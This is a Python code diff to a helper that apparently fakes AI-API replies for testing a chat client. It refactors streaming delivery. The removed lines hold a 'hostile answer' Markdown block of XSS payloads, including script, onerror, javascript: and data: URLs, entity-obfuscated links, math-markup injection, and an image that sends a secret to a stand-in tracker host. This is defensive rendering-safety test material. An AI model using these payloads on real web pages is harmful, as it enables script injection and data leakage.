@@ -7,19 +7,19 @@ answer that the request would have had.
 from __future__ import annotations
 
 import dataclasses
-from collections.abc import Callable, Iterable, Mapping, Sequence
-from functools import cache
+from collections.abc import Iterable, Mapping, Sequence
+from functools import cache, partial
 from typing import Literal
 
 from ._composer import search_result
 from ._stream import (
     Answer,
     Behaviour,
+    Change,
     Post,
     deliver,
-    deliver_events,
     encode_event,
-    message_events,
+    new_message,
     stream_head,
 )
 from ._wire import (
@@ -36,6 +36,7 @@ from ._wire import (
     encode_json,
     error_envelope,
     new_id,
+    read_corpus,
     split_tokens,
 )
 
@@ -119,10 +120,8 @@ def reply(
     def behave(post: Post) -> Steps:
         message = build_message(post, blocks, stop_reason, stop_sequence, stop_details, usage)
         answer = Answer(message=message, headers=dict(headers or {}))
-        paced_exchange = post if chunk_delay is None else _with_delay(post, chunk_delay)
-        if deltas is None or not post.request.wants_stream:
-            return deliver(paced_exchange, answer)
-        return deliver_events(paced_exchange, answer, with_text_deltas(message_events(message), deltas))
+        paced = post if chunk_delay is None else dataclasses.replace(post, chunk_delay=chunk_delay)
+        return deliver(paced, answer, None if deltas is None else partial(with_text_deltas, deltas))
 
     return behave
 
@@ -187,16 +186,8 @@ def build_message(
 ) -> JSON:
     """A message around content that was made up without asking the request."""
     fields = post.request.fields
-    message: JSON = {
-        "id": new_id("msg"),
-        "type": "message",
-        "role": "assistant",
-        "model": fields.get("model") or DEFAULT_MODEL,
-        "content": list(content),
-        "stop_reason": stop_reason,
-        "stop_sequence": stop_sequence,
-        "usage": {**_estimated_usage(fields, content), **(usage or {})},
-    }
+    counted = {**_estimated_usage(fields, content), **(usage or {})}
+    message = new_message(fields.get("model") or DEFAULT_MODEL, content, stop_reason, stop_sequence, counted)
     if stop_details is not None:
         message["stop_details"] = stop_details
     return message
@@ -221,17 +212,7 @@ def _blocks(text: str, thinking: str | None) -> list[JSON]:
     return blocks
 
 
-def _with_delay(post: Post, chunk_delay: float) -> Post:
-    return Post(
-        request=post.request,
-        request_id=post.request_id,
-        chunk_delay=chunk_delay,
-        headers=post.headers,
-        answer=post.answer,
-    )
-
-
-def with_text_deltas(events: Iterable[JSON], deltas: Sequence[str]) -> Iterable[JSON]:
+def with_text_deltas(deltas: Sequence[str], events: Iterable[JSON]) -> Iterable[JSON]:
     """The events, with the last block's text told in exactly these deltas."""
     pending: list[str] | None = list(deltas)
     for event in events:
@@ -244,73 +225,6 @@ def with_text_deltas(events: Iterable[JSON], deltas: Sequence[str]) -> Iterable[
 
 
 LONG_ANSWER_BYTES = 100_000
-
-HOSTILE_MARKDOWN = r"""# A hostile answer
-
-If anything here runs, the page that shows it is not safe. Each run would set `window.pwned`.
-
-<script>window.pwned = "script"</script>
-<img src=x onerror="window.pwned = 'onerror'">
-<svg onload="window.pwned = 'svg'"><circle r="9"/></svg>
-<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
-<iframe src="javascript:parent.pwned = 'iframe'"></iframe>
-<details open ontoggle="window.pwned = 'toggle'"><summary>details</summary></details>
-<a href="javascript:window.pwned = 'link'">raw link</a>
-<style>body { display: none }</style>
-<form action="javascript:window.pwned = 'form'"><button>form</button></form>
-<meta http-equiv="refresh" content="0;url=javascript:window.pwned='meta'">
-<object data="javascript:window.pwned = 'object'"></object>
-<math><mtext><img src=x onerror="window.pwned = 'math'"></mtext></math>
-<video><source onerror="window.pwned = 'video'"></video>
-<body onload="window.pwned = 'body'">
-<input autofocus onfocus="window.pwned = 'focus'">
-
-[a link](javascript:window.pwned='markdown-link') ·
-[tabbed](java&#x09;script:window.pwned='entity-link') ·
-[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9J2RhdGEnPC9zY3JpcHQ+) ·
-[vb](vbscript:window.pwned) · <javascript:window.pwned='autolink'>
-
-![an image that calls home](https://tracker.invalid/pixel.png?secret=42)
-![onerror](x"onerror="window.pwned='image-title')
-
-$\href{javascript:window.pwned='math-link'}{x^2}$ and $\class{" onclick="window.pwned='class'}{y}$
-
-```html
-<script>window.pwned = "code, which is only shown"</script>
-```
-
-| a | b |
-|---|---|
-| <img src=x onerror="window.pwned='cell'"> | `</td><script>window.pwned='tick'</script>` |
-
-The last line is ordinary text.
-"""
-
-_LONG_SECTION = r"""## {number}. Sums of powers, case $k = {k}$
-
-Write $S_{{{k}}}(n) = \sum_{{i=1}}^{{n}} i^{{{k}}}$. Faulhaber's formula expresses it through the Bernoulli
-numbers $B_j$:
-
-$$S_{{{k}}}(n) = \frac{{1}}{{{k_plus}}}
-\sum_{{j=0}}^{{{k}}} \binom{{{k_plus}}}{{j}} B_j^{{+}} \, n^{{{k_plus}-j}}$$
-
-For large $n$ the integral $\int_0^n x^{{{k}}}\,dx = \frac{{n^{{{k_plus}}}}}{{{k_plus}}}$ dominates, and the
-relative error falls like $\mathcal{{O}}(1/n)$.
-
-| $n$ | $S_{{{k}}}(n)$ | $n^{{{k_plus}}}/{k_plus}$ | ratio |
-|----:|----:|----:|----:|
-{rows}
-
-```python
-def power_sum(n: int, k: int = {k}) -> int:
-    # Exact for every n: Python's integers do not overflow.
-    return sum(i**k for i in range(1, n + 1))
-```
-
-- The leading term is $\frac{{n^{{{k_plus}}}}}{{{k_plus}}}$, the next one $\frac{{n^{{{k}}}}}{{2}}$.
-- With $x = \frac{{1}}{{n}}$ the ratio tends to $1 + \frac{{{k_plus}}}{{2}}\,x$ as $x \to 0$.
-
-"""
 
 
 @cache
@@ -330,7 +244,7 @@ def _long_section(number: int, k: int) -> str:
     for n in range(number, number + 5):
         exact, estimate = sum(i**k for i in range(1, n + 1)), n ** (k + 1) / (k + 1)
         rows.append(f"| {n} | {exact} | {estimate:.2f} | {exact / estimate:.4f} |")
-    return _LONG_SECTION.format(number=number, k=k, k_plus=k + 1, rows="\n".join(rows))
+    return read_corpus("long-section.txt").format(number=number, k=k, k_plus=k + 1, rows="\n".join(rows))
 
 
 MULTILINGUAL = (
@@ -412,7 +326,7 @@ def only_think(message: JSON) -> JSON:
 
 def attack(message: JSON) -> JSON:
     """Say what an attacker would."""
-    return with_text(message, HOSTILE_MARKDOWN)
+    return with_text(message, read_corpus("hostile.txt"))
 
 
 def ramble(post: Post) -> Steps:
@@ -420,11 +334,9 @@ def ramble(post: Post) -> Steps:
     answer = post.answer()
     text = long_answer()
     answer = dataclasses.replace(answer, message=with_text(answer.message, text))
-    if not post.request.wants_stream:
-        return deliver(post, answer)
     size = -(-len(text) // LONG_ANSWER_DELTAS)
     deltas = [text[start : start + size] for start in range(0, len(text), size)]
-    return deliver_events(post, answer, with_text_deltas(message_events(answer.message), deltas))
+    return deliver(post, answer, partial(with_text_deltas, deltas))
 
 
 def pause_turn(post: Post) -> Steps:
@@ -455,7 +367,7 @@ def _pending_searches(message: JSON) -> list[str]:
     ]
 
 
-def tool_call(change: Callable[[Iterable[JSON]], Iterable[JSON]]) -> Behaviour:
+def tool_call(change: Change) -> Behaviour:
     """Call the request's first tool, or one named `tide_table`, in changed events."""
 
     def behave(post: Post) -> Steps:
@@ -466,9 +378,6 @@ def tool_call(change: Callable[[Iterable[JSON]], Iterable[JSON]]) -> Behaviour:
             "name": tools[0].get("name", "tide_table"),
             "input": {"port": "Brest", "day": 3},
         }
-        answer = Answer(message=build_message(post, [call], "tool_use"))
-        if not post.request.wants_stream:
-            return deliver(post, answer)
-        return deliver_events(post, answer, change(message_events(answer.message)))
+        return deliver(post, Answer(message=build_message(post, [call], "tool_use")), change)
 
     return behave
